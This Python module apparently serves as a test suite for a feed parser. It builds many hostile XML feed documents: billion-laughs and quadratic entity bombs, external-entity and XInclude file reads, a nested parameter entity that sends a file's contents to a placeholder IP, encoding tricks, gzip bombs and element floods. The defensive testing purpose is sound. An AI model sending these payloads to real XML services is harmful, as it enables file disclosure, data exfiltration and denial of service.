"""Documents that attack XML readers, each embedded in a feed that is valid without the attack."""

import gzip
from collections.abc import Callable
from string import Template
from typing import Final

SECRET: Final = "the-word-that-must-not-get-out"  # noqa: S105
"""Content of the file that attacks try to read."""

TEMPLATES: Final = {
    "rss": Template(
        '$prolog<rss version="2.0" $attributes><channel><title>T</title><link>https://post.example.com/</link>'
        "<description>D</description><item><guid>a</guid><title>$text</title>$inside</item></channel></rss>"
    ),
    "atom": Template(
        '$prolog<feed xmlns="http://www.w3.org/2005/Atom" $attributes><title>T</title><id>urn:x:f</id>'
        "<updated>2026-03-02T12:00:00Z</updated><entry><id>urn:x:a</id><title>$text</title>$inside</entry></feed>"
    ),
    "newsml": Template(
        '$prolog<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/" $attributes><header/><itemSet>'
        '<newsItem guid="urn:x:a" version="1" standard="NewsML-G2" standardversion="2.35"><contentMeta>'
        "<headline>$text</headline>$inside</contentMeta></newsItem></itemSet></newsMessage>"
    ),
    "rss, RDF": Template(
        '$prolog<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" $attributes>'
        '<channel rdf:about="https://post.example.com/"><title>T</title><link>https://post.example.com/</link></channel>'
        '<item rdf:about="https://post.example.com/a"><title>$text</title>$inside</item></rdf:RDF>'
    ),
    "atom, entry": Template(
        '$prolog<entry xmlns="http://www.w3.org/2005/Atom" $attributes><id>urn:x:a</id>'
        "<updated>2026-03-02T12:00:00Z</updated><title>$text</title>$inside</entry>"
    ),
    "newsml, item": Template(
        '$prolog<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:x:a" version="1" standard="NewsML-G2" '
        'standardversion="2.35" $attributes><contentMeta><headline>$text</headline>$inside</contentMeta></newsItem>'
    ),
    "sitemap": Template(
        '$prolog<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        'xmlns:news="http://www.google.com/schemas/sitemap-news/0.9" $attributes><url><loc>https://post.example.com/a</loc>'
        "<news:news><news:publication><news:name>P</news:name><news:language>en</news:language></news:publication>"
        "<news:publication_date>2026-03-02</news:publication_date><news:title>$text</news:title></news:news>$inside</url>"
        "</urlset>"
    ),
    "sitemap, index": Template(
        '$prolog<sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" $attributes><sitemap>'
        "<loc>https://post.example.com/$text</loc>$inside</sitemap></sitemapindex>"
    ),
    "opml": Template(
        '$prolog<opml version="2.0" $attributes><head><title>$text</title></head><body>'
        '<outline type="rss" text="a" xmlUrl="https://post.example.com/a">$inside</outline></body></opml>'
    ),
    "rsl": Template(
        '$prolog<rsl xmlns="https://rslstandard.org/rsl" $attributes><content url="https://post.example.com/">'
        '<license><permits type="usage">search</permits></license><copyright>$text</copyright>$inside</content></rsl>'
    ),
}
"""Feed templates, by the name of the format and, after a comma, of the kind of document."""


def format_of(name: str) -> str:
    """Return the format of a template."""
    return name.partition(",")[0]


_ITEM_ENDS: Final = {
    "rss": b"</item>",
    "rss, RDF": b"</item>",
    "atom": b"</entry>",
    "newsml": b"</newsItem>",
    "sitemap": b"</url>",
    "sitemap, index": b"</sitemap>",
    "opml": b"</outline>",
    "rsl": b"</content>",
}
"""The end tag of an item, by template; the others have one item only."""


class Host:
    """Builder of a feed with an attack in it.

    Args:
        name: the name of the format.
        secret: URL of the file that attacks try to read.
    """

    def __init__(self, name: str, secret: str) -> None:
        self.name = name
        self._template = TEMPLATES[name]
        self.secret = secret

    def __call__(self, *, prolog: str = "", attributes: str = "", text: str = "t", inside: str = "") -> bytes:
        """Return the document.

        Args:
            prolog: markup before the root element.
            attributes: attributes of the root element.
            text: content of the title or headline, as markup.
            inside: markup inside the item.
        """
        return self._template.substitute(prolog=prolog, attributes=attributes, text=text, inside=inside).encode()

    def siblings(self, count: int) -> bytes:
        """Return the document with empty items after its own."""
        end = _ITEM_ENDS.get(self.name)
        return self().replace(end, end + (b"<" + end[2:-1] + b"/>") * count) if end else self()

    def dtd(self, subset: str, text: str = "&x;", inside: str = "") -> bytes:
        """Return the document with an internal DTD subset."""
        return self(prolog=f'<?xml version="1.0"?><!DOCTYPE x [{subset}]>', text=text, inside=inside)


def _billion_laughs(host: Host) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return host.dtd(f'<!ENTITY l0 "ha">{levels}', "&l9;")


def _nested(opening: str, closing: str, depth: int) -> Callable[[Host], bytes]:
    return lambda host: host(inside=opening * depth + closing * depth)


def _tag(start: str, attribute: str, count: int) -> str:
    """Return the start of a tag with numbered attributes."""
    return " ".join([start, *(attribute.replace("%", str(number)) for number in range(count))])


def _inside(markup: str) -> Callable[[Host], bytes]:
    return lambda host: host(inside=markup)


ATTACKS: Final[dict[str, Callable[[Host], bytes]]] = {
    # entities
    "billion laughs": _billion_laughs,
    "quadratic blowup": lambda host: host.dtd(f'<!ENTITY x "{"A" * 50_000}">', "&x;" * 50_000),
    "small entity": lambda host: host.dtd(f'<!ENTITY x "{"A" * 300}">', "&x;" * 100),
    "circular entities": lambda host: host.dtd('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "external entity, file": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">'),
    "external entity, network": lambda host: host.dtd('<!ENTITY x SYSTEM "http://203.0.113.1/x">'),
    "public entity": lambda host: host.dtd(f'<!ENTITY x PUBLIC "-//X//Y//EN" "{host.secret}">'),
    "entity in an attribute": lambda host: host.dtd(f'<!ENTITY x SYSTEM "{host.secret}">', "t", '<link href="&x;"/>'),
    "parameter entity": lambda host: host.dtd(f'<!ENTITY % p SYSTEM "{host.secret}">%p;', "t"),
    "nested parameter entities": lambda host: host.dtd(
        f'<!ENTITY % f SYSTEM "{host.secret}"><!ENTITY % e "<!ENTITY x SYSTEM \'http://203.0.113.1/%f;\'>">%e;'
    ),
    "external DTD, file": lambda host: host(prolog=f'<!DOCTYPE x SYSTEM "{host.secret}">', text="&x;"),
    "external DTD, network": lambda host: host(prolog='<!DOCTYPE x SYSTEM "http://203.0.113.1/x.dtd">'),
    "file disguised as a legacy DTD": lambda host: host(
        prolog=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{host.secret}?netscape.com/rss-0.91.dtd">',
        text="&x;",
    ),
    "legacy DTD with an internal subset": lambda host: host(
        prolog='<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd" '
        f'[<!ENTITY x SYSTEM "{host.secret}">]>',
        text="&x;",
    ),
    "legacy DTD with a quoted bracket and an internal subset": lambda host: host(
        prolog='<!DOCTYPE rss SYSTEM "http://my.netscape.com/publish/formats/rss-0.91.dtd?>" '
        f'[<!ENTITY x SYSTEM "{host.secret}"><!ENTITY y "expanded">]>',
        text="&x;",
    ),
    "default attributes": lambda host: host.dtd(f'<!ATTLIST title a CDATA "{"A" * 9999}">', "t", "<title/>" * 999),
    "DTD after comments": lambda host: host(
        prolog=f'<!-- a --><?b c?><!-- > --> <!DOCTYPE x [<!ENTITY x SYSTEM "{host.secret}">]>', text="&x;"
    ),
    "unterminated DTD": lambda _host: b"<!DOCTYPE x [" + b'<!ENTITY a "b">' * 100_000,
    "unknown entities": lambda host: host(text="&nothing;" * 20_000),
    "unterminated references": lambda host: host(text="&" * 300_000),
    "illegal character references": lambda host: host(text="&#0;&#xD800;&#xFFFFFFFF;" * 20_000),
    # other features that load resources
    "XInclude": lambda host: host(
        inside=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{host.secret}" parse="text"/>'
    ),
    "stylesheet": lambda host: host(prolog=f'<?xml-stylesheet type="text/xsl" href="{host.secret}"?>'),
    "schema location": lambda host: host(
        attributes=f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {host.secret}"'
    ),
    # encodings
    "UTF-7": lambda host: b'<?xml version="1.0" encoding="UTF-7"?>' + host(text="+ADw-script+AD4-"),
    "unknown encoding": lambda host: b'<?xml version="1.0" encoding="rot13"?>' + host(),
    "gzip": lambda host: gzip.compress(host(text="A" * 1_000_000), mtime=0),
    "UTF-16 without a byte order mark": lambda host: host().decode().encode("utf-16-le"),
    "UTF-32": lambda host: host().decode().encode("utf-32"),
    "NULs": lambda host: host(text="\0" * 100_000),
    "truncated UTF-8 sequence": lambda host: host(text="t").replace(b">t<", b">\xf0\x9f\x98<"),
    "overlong UTF-8": lambda host: host(text="t").replace(b">t<", b">\xc0\xbcscript\xc0\xbe<"),
    # floods
    "attributes": lambda host: host(inside="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>"),
    "namespaces": lambda host: host(attributes=" ".join(f'xmlns:n{n}="urn:{n}"' for n in range(50_000))),
    "nested namespaces": lambda host: host(
        inside="".join(f'<n{n}:a xmlns:n{n}="urn:{n}">' for n in range(150))
        + "".join(f"</n{n}:a>" for n in reversed(range(150)))
    ),
    "undeclared prefixes": lambda host: host(inside="".join(f"<p{n}:a/>" for n in range(50_000))),
    "empty elements": _inside("<x/>" * 100_000),
    "depth": _nested("<x>", "</x>", 10_000),
    "depth within the limit": _nested("<div>", "</div>", 190),
    "text": _inside(f"<x>{'A' * 12_000_000}</x>"),
    "attribute value": _inside(f'<x a="{"A" * 12_000_000}"/>'),
    "comments": _inside("<!---->" * 300_000),
    "unterminated comments": _inside("<!--" * 100_000),
    "processing instructions": _inside("<?a b?>" * 300_000),
    "CDATA": _inside("<![CDATA[a]]>" * 300_000),
    "unterminated CDATA": _inside("<![CDATA[" * 100_000),
    "element name": _inside(f"<{'n' * 1_000_000}/>"),
    "attribute name": _inside(f'<x {"n" * 1_000_000}="1"/>'),
    "unterminated tags": _inside("<a " * 20_000),
    "end tags": _inside("</a>" * 300_000),
    "whitespace before the document": lambda host: b" \n" * 200_000 + b"<?xml version='1.0'?>" + host(),
    "less-than signs only": lambda _host: b"<" * 1_000_000,
    "quotation marks": _inside("<x a='" * 20_000),
    "duplicate attribute": _inside('<x a="1" a="2"/>'),
    "items": lambda host: host(inside="<item/>" * 5_000),
    "items and entries": lambda host: host(inside="<item/><entry/><url/><outline/>" * 100_000),
    "sibling items": lambda host: host.siblings(100_000),
    "more sibling items": lambda host: host.siblings(5_000),
    "nested items": lambda host: host(inside=("<item>" * 90 + "</item>" * 90) * 2_000),
    "elements with text": _inside("<x>a</x>" * 200_000),
    "padded elements": _inside(f"<x>{'a' * 60}</x>" * 60_000),
    "elements of many names": lambda host: host(inside="".join(f"<x{n}/>" for n in range(100_000))),
    "trees": _inside(("<x>" * 50 + "</x>" * 50) * 3_000),
    "elements of a vocabulary": lambda host: host(attributes='xmlns:p="urn:p"', inside="<p:x>a</p:x>" * 100_000),
    "fewer elements of a vocabulary": lambda host: host(attributes='xmlns:p="urn:p"', inside="<p:x>a</p:x>" * 9_000),
    "redeclared namespaces": lambda host: host(inside="".join(f'<x xmlns="urn:{n}"/>' for n in range(50_000))),
    "fewer redeclared namespaces": lambda host: host(inside="".join(f'<x xmlns="urn:{n}"/>' for n in range(9_000))),
    "namespaces in scope": lambda host: host(
        inside="".join(_tag("<x", f'xmlns:n{level}.%="urn:n"', 200) + ">" for level in range(150))
        + "<n0.1:y/>" * 9_000
        + "</x>" * 150
    ),
    "attributes of many elements": _inside((_tag("<x", 'a%=""', 200) + "/>") * 2_000),
    "attributes with a namespace": lambda host: host(
        attributes='xmlns:p="urn:p"', inside=(_tag("<x", 'p:a%="1"', 250) + "/>") * 300
    ),
    "languages": _inside('<x xml:lang="en"/>' * 100_000),
    "base addresses": _nested('<x xml:base="a/">', "</x>", 190),
    "mixed text": _inside("a<x/>" * 150_000),
    "references": lambda host: host(text="&amp;" * 1_000_000),
    "character references": lambda host: host(text="&#65;" * 1_000_000),
    "line ends": lambda host: host(text="\r\n" * 2_000_000),
    "text of the item": lambda host: host(text="A" * 9_000_000),
    "comments in the prolog": lambda host: host(prolog="<!---->" * 200_000),
    "instructions in the prolog": lambda host: host(prolog="<?a b?>" * 200_000),
    "nested CDATA": _inside("<![CDATA[<![CDATA[]]>" * 100_000),
    "markup in CDATA": _inside(f"<x><![CDATA[{'<b>a</b>' * 100_000}]]></x>"),
    "much markup in CDATA": _inside(f"<x><![CDATA[{'<b>a</b>' * 1_000_000}]]></x>"),
    "attributes in CDATA": _inside(f"<x><![CDATA[{'<b a>' * 160_000}]]></x>"),
    "escaped markup": lambda host: host(text="&lt;b&gt;" * 100_000),
    "titles": _inside("<title>a</title>" * 9_000),
    "categories": _inside('<category term="a">a</category>' * 9_000),
    "links": _inside('<link href="https://post.example.com/a">https://post.example.com/a</link>' * 9_000),
    "enclosures": _inside('<enclosure url="https://post.example.com/a.mp3" length="1" type="audio/mpeg"/>' * 9_000),
    "authors": _inside("<author><name>a</name></author>" * 4_500),
    "UTF-16 elements": lambda host: host(inside="<x/>" * 200_000).decode().encode("utf-16"),
    "UTF-32 elements": lambda host: host(inside="<x/>" * 100_000).decode().encode("utf-32"),
    "gzip bomb": lambda host: gzip.compress(host(text="A" * 50_000_000), mtime=0),
    "gzip of elements": lambda host: gzip.compress(host(inside="<x/>" * 2_000_000), mtime=0),
    "gzip in gzip": lambda host: gzip.compress(gzip.compress(host(text="A" * 1_000_000), mtime=0), mtime=0),
    "elements after a fault": lambda host: host(inside="</b>" + "<x/>" * 500_000),
    "two million elements": _inside("<x/>" * 2_000_000),
    "unterminated elements": _inside("<x>" * 300_000),
    "unterminated attribute": lambda host: host(inside='<x a="' + "<b/>" * 200_000),
}
"""Functions that build the document of each attack, by name of the attack."""
